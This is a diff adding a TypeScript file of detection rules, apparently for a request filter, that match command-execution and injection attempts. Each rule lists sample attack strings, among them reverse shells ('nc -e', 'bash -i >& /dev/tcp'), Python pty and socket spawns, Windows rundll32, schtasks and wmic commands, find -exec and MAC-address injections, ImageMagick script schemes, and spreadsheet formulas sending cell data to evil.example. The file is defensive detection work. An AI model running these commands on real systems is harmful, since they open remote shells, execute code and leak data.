@@ -1,0 +1,152 @@
+import { CHAR } from '../features.ts'
+import { pattern, type Rule } from '../rule.ts'
+import { WORD } from '../words.ts'
+
+/**
+ * How languages and tools start programs, as the whole of a value or a part of it: what a field that is
+ * evaluated takes, and an option that a tool is not to be given.
+ */
+export const languageProgramRules: readonly Rule[] = [
+  pattern(
+    'code/program-call',
+    /\bpty\.spawn\s{0,2}\(|\bimport\s{1,4}(?:[\w ,]{1,60},\s{0,2})?(?:subprocess|pty)(?:\s{0,2},[\w ,]{1,60})?\s{0,2};|\blookup\s{0,2}\(\s{0,2}['"]pipe['"]|\bjava\.type\s{0,2}\(\s{0,2}['"]java\.lang\.(?:runtime|processbuilder|system|thread|class)\b/,
+    {
+      score: 5,
+      quotable: true,
+      words: WORD.runtime | WORD.java,
+      attacks: [
+        "import pty;pty.spawn('/bin/sh')",
+        'import socket,subprocess,os;s=socket.socket()',
+        "{{ lookup('pipe','id') }}",
+        "Java.type('java.lang.Runtime')",
+      ],
+      benign: ['import subprocess', 'pty.spawn', "lookup('file', 'x')", "Java.type('java.util.ArrayList')"],
+    },
+  ),
+  // Programs of any kind have them, where programs are data.
+  pattern(
+    'code/command-call',
+    /\bexec\.command(?:context)?\s{0,2}\(\s{0,2}["']|\bsystem\.cmd\s{0,2}\(\s{0,2}["']|\bclojure\.java\.shell\/sh\b|["']\s{0,2}\.\s{0,2}!{1,2}\s{0,2}$|\((?:run-shell-command|uiop:run-program|sb-ext:run-program)\s/,
+    {
+      score: 5,
+      bare: true,
+      quotable: true,
+      chars: CHAR.paren | CHAR.bang,
+      words: 0,
+      attacks: [
+        'exec.Command("id").Run()',
+        'System.cmd("id", [])',
+        '(clojure.java.shell/sh "id")',
+        '"id".!!',
+        '(run-shell-command "id")',
+      ],
+      benign: ['"Wow"!', 'exec.command', 'System.cmd', '(run-program)'],
+    },
+  ),
+  pattern(
+    'rce/windows-tool',
+    /\brundll32(?:\.exe)?\s{1,4}["']?javascript:|\bschtasks(?:\.exe)?\s{1,4}\/(?:create|run|change)\b|\bwmic(?:\.exe)?\s{1,4}(?:process\s{1,4}call|\/node:|os\s{1,4}get)\b/,
+    {
+      score: 5,
+      quotable: true,
+      words: WORD.shell,
+      attacks: [
+        'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication"',
+        'schtasks /create /tn x /tr calc.exe',
+        'wmic process call create calc.exe',
+      ],
+      benign: ['rundll32 is slow', 'schtasks', 'wmic process'],
+    },
+  ),
+  // A shell that answers to who opened it: no health check and no step of a pipeline has one.
+  pattern(
+    'rce/shell-back',
+    /\bn(?:c|cat|etcat)\s(?:[^\n]{0,60}\s)?-{1,2}(?:[a-z]{0,3}e|exec)\s{1,4}(?:\/(?:usr\/)?bin\/)?(?:ba|da|z|k)?sh\b|\b(?:ba|z)?sh\s{1,4}-i\s{0,4}[>&\d]{1,4}\s{0,2}&?\s{0,2}\/dev\/(?:tcp|udp)\//,
+    {
+      score: 5,
+      quotable: true,
+      words: WORD.shell,
+      attacks: ['nc -e /bin/sh 198.51.100.7 4444', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'],
+      benign: ['exec 3<>/dev/tcp/localhost/9092', 'nc -z db 5432', 'bash -i'],
+    },
+  ),
+  pattern(
+    'rce/find-exec',
+    /(?:^|\s)-(?:exec|execdir)\s{1,4}[\w./-]{1,40}\s[^\n;]{0,80}(?:\\;|\{\}|;\s{0,2}$)/,
+    {
+      score: 5,
+      quotable: true,
+      bare: true,
+      words: WORD.shell,
+      attacks: ["x' -exec id \\;", '. -exec id {} +'],
+      benign: ['-exec', '-exec id', 'exec {} ;'],
+    },
+  ),
+  // No host begins with a dash: a program takes it for an option.
+  pattern('rce/option-host', /^\s{0,2}[a-z][a-z+]{1,11}:\/\/-{1,2}[a-z]/, {
+    score: 5,
+    atStart: true,
+    chars: CHAR.scheme,
+    attacks: ['svn+ssh://-oProxyCommand=id/x', 'ssh://--x'],
+    benign: ['https://a-b.example', 'x:// - a'],
+  }),
+  pattern('rce/client-escape', /^\s{0,2}\\!\s{1,4}[a-z/]/, {
+    score: 5,
+    atStart: true,
+    chars: CHAR.backslash,
+    places: ['query', 'form', 'cookie'],
+    attacks: ['\\! id'],
+    benign: ['!important', 'a \\! b'],
+  }),
+  pattern(
+    'rce/hardware-address',
+    /^\s{0,2}(?:[\da-f]{2}[:-]){5}[\da-f]{2}\s{0,2}[;|&]{1,2}\s{0,2}(?:[a-z$(]|\/[a-z])/,
+    {
+      score: 5,
+      atStart: true,
+      chars: CHAR.semicolon | CHAR.pipe | CHAR.ampersand,
+      attacks: ['00:11:22:33:44:55;id', '00-11-22-33-44-55|id', '00:11:22:33:44:55&&reboot'],
+      benign: ['00:11:22:33:44:55', '00:11:22:33:44:55; 00:11:22:33:44:56'],
+    },
+  ),
+  // What ImageMagick reads as a script, or as the name of a file to read.
+  pattern(
+    'rce/picture-script',
+    /^\s{0,2}(?:(?:msl|ephemeral|mvg):\/?[\w./]|(?:label|caption|text|pango):@\/?[\w./])/,
+    {
+      score: 5,
+      bare: true,
+      atStart: true,
+      chars: CHAR.colon,
+      words: WORD.probe,
+      places: ['query', 'form', 'cookie'],
+      attacks: ['msl:/tmp/x.msl', 'caption:@/etc/x', 'ephemeral:/tmp/a'],
+      benign: ['label:bug', 'text: @ann', 'msl', 'label: @team'],
+    },
+  ),
+  // A cell that sends others to where its writer says.
+  pattern(
+    'rce/formula-address',
+    /^\s{0,2}[=+@-]\s{0,2}(?:hyperlink|importxml|importdata|importfeed|importhtml|webservice|image)\s{0,2}\(\s{0,2}(?:concat(?:enate)?\s{0,2}\(\s{0,2})?["']https?:\/\/[^"'\n]{1,160}["']\s{0,2}(?:&|,\s{0,2}[a-z]{1,3}\d)/,
+    {
+      score: 5,
+      bare: true,
+      atStart: true,
+      chars: CHAR.scheme,
+      attacks: [
+        '=HYPERLINK("http://evil.example?x="&A1,"x")',
+        '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
+        '@WEBSERVICE("http://evil.example/"&A1)',
+      ],
+      benign: ['=HYPERLINK("https://a.example","a")', '=SUM(A1)', '=IMAGE("https://a.example/x.png")'],
+    },
+  ),
+  // A scanner of names that Windows shortens.
+  pattern('probe/short-name', /\*~\d{1,2}\*?/, {
+    score: 5,
+    chars: CHAR.star,
+    places: ['path'],
+    attacks: ['/*~1*/a.aspx'],
+    benign: ['/~1', '/a*b', '/docs~1'],
+  }),
+]
